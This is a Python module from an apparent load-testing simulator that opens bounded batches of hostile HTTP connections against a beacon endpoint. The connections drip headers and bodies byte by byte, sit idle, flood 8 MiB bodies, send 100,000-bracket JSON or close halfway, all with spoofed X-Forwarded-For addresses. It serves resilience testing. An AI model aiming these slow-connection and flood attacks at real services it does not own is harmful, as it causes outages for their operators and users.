"""The attacks: connections that drip, idle, flood, nest or leave. Each is bounded in count and bytes.

They run in the runner's own process beside the polite traffic that Locust sends. They decide what is sent; whether the
others were served is counted elsewhere. What came back is tallied, not judged.
"""

from __future__ import annotations

import asyncio
import resource
from contextlib import suppress
from dataclasses import dataclass
from typing import TYPE_CHECKING

from simulator.judge.wire import headers_of, path_of, place_of
from simulator.waiting import NeverHappened, wait_until

if TYPE_CHECKING:
    import ssl
    from collections import Counter
    from collections.abc import Awaitable, Callable

Connection = tuple[asyncio.StreamReader, asyncio.StreamWriter]
FILES_WANTED = 4_096
DRIP_S, CONNECT_S = 0.25, 10.0
DRIPPING, IDLE, FLOODING, NESTING, LEAVING = 200, 1_000, 40, 40, 400
FLOOD_BYTES, CHUNK = 8 << 20, 64 << 10
DEPTH = 50_000


@dataclass(frozen=True)
class Field:
    """Whom attacks are made on: the endpoint, an allowed origin, and addresses that are nobody else's.

    `tls`: how the certificate is checked; None: plain HTTP.
    """

    endpoint: str
    origin: str
    new_address: Callable[[], str]
    tls: ssl.SSLContext | None = None

    def head(self, length: int) -> bytes:
        """Give the head of a beacon that announces so many bytes, without the line that ends it."""
        lines = [
            f"POST {path_of(self.endpoint)} HTTP/1.1",
            *(f"{name}: {value}" for name, value in headers_of(self.endpoint).items()),
            f"Origin: {self.origin}",
            "Content-Type: application/json",
            f"X-Forwarded-For: {self.new_address()}",
            f"Content-Length: {length}",
        ]
        return "\r\n".join(lines).encode("latin-1")

    async def connect(self) -> Connection:
        """Open one connection."""
        async with asyncio.timeout(CONNECT_S):
            return await asyncio.open_connection(*place_of(self.endpoint), ssl=self.tls)


@dataclass(frozen=True)
class Attack:
    """One attack: `count` connections at once, each doing `act`; those that end early begin again if `again`."""

    name: str
    title: str
    count: int
    act: Callable[[Field, Connection, Counter[str]], Awaitable[None]]
    again: bool = False


async def drip_head(field: Field, connection: Connection, tally: Counter[str]) -> None:
    """Send a head one byte after the other, and never its end."""
    await _drip(connection, field.head(10) + b"\r\nX-Slow: " + b"y" * 4_096, tally)


async def drip_body(field: Field, connection: Connection, tally: Counter[str]) -> None:
    """Send a whole head, and the body one byte after the other."""
    connection[1].write(field.head(5_000) + b"\r\n\r\n")
    await _drip(connection, b"{" + b" " * 4_096, tally)


async def idle(_field: Field, connection: Connection, tally: Counter[str]) -> None:
    """Say nothing."""
    await _answer(connection, tally)


async def flood(field: Field, connection: Connection, tally: Counter[str]) -> None:
    """Send eight megabytes as fast as they are taken."""
    reader, writer = connection
    writer.write(field.head(FLOOD_BYTES) + b"\r\n\r\n")
    answer = asyncio.create_task(_answer((reader, writer), tally))
    try:
        for _ in range(FLOOD_BYTES // CHUNK):
            if answer.done():
                break
            writer.write(b"x" * CHUNK)
            await writer.drain()
        await answer
    finally:
        answer.cancel()
        await asyncio.gather(answer, return_exceptions=True)


async def nest(field: Field, connection: Connection, tally: Counter[str]) -> None:
    """Send a body of nothing but brackets."""
    body = b"[" * DEPTH + b"]" * DEPTH
    connection[1].write(field.head(len(body)) + b"\r\nConnection: close\r\n\r\n" + body)
    await _answer(connection, tally)


async def leave(field: Field, connection: Connection, tally: Counter[str]) -> None:
    """Send half a body and go."""
    connection[1].write(field.head(200) + b'\r\n\r\n{"s":"half')
    with suppress(OSError):
        await connection[1].drain()
    tally["left"] += 1


ATTACKS = {
    one.name: one
    for one in (
        Attack("slow-heads", "200 connections drip a head that never ends", DRIPPING, drip_head),
        Attack("slow-bodies", "200 connections drip a body, four bytes a second", DRIPPING, drip_body),
        Attack("idle", "1,000 connections say nothing", IDLE, idle),
        Attack("huge-bodies", "40 connections send 8 MiB each, again and again", FLOODING, flood, again=True),
        Attack("deep-json", "40 bodies of 100,000 brackets", NESTING, nest),
        Attack("early-close", "400 connections send half a body and leave", LEAVING, leave),
    )
}


async def carry_out(attack: Attack, field: Field, tally: Counter[str]) -> None:
    """Attack until cancelled; whatever is open then is counted as held, and closed."""
    _raise_file_limit()
    await asyncio.gather(*(_one(attack, field, tally) for _ in range(attack.count)))


async def _one(attack: Attack, field: Field, tally: Counter[str]) -> None:
    while True:
        try:
            connection = await field.connect()
        except (OSError, TimeoutError):
            tally["refused at connect"] += 1
            return
        tally["opened"] += 1
        try:
            await attack.act(field, connection, tally)
        except OSError:
            tally["cut off"] += 1
        except asyncio.CancelledError:
            tally["held to the end"] += 1
            raise
        finally:
            connection[1].close()
        if not attack.again:
            return


async def _drip(connection: Connection, data: bytes, tally: Counter[str]) -> None:
    reader, writer = connection
    answer = asyncio.create_task(_answer((reader, writer), tally))
    try:
        for byte in data:
            if answer.done():
                return
            writer.write(bytes([byte]))
            await writer.drain()
            with suppress(NeverHappened):
                await wait_until(answer.done, DRIP_S, pause_s=DRIP_S)
    finally:
        answer.cancel()
        await asyncio.gather(answer, return_exceptions=True)


async def _answer(connection: Connection, tally: Counter[str]) -> None:
    """Wait for an answer, and count its status; an end without one is counted as such."""
    try:
        line = await connection[0].readline()
    except OSError:
        line = b""
    tally[f"answered {line.split()[1].decode('latin-1')}" if line.count(b" ") > 0 else "closed unanswered"] += 1


def _raise_file_limit() -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = FILES_WANTED if hard == resource.RLIM_INFINITY else min(FILES_WANTED, hard)
    if soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (wanted, hard))
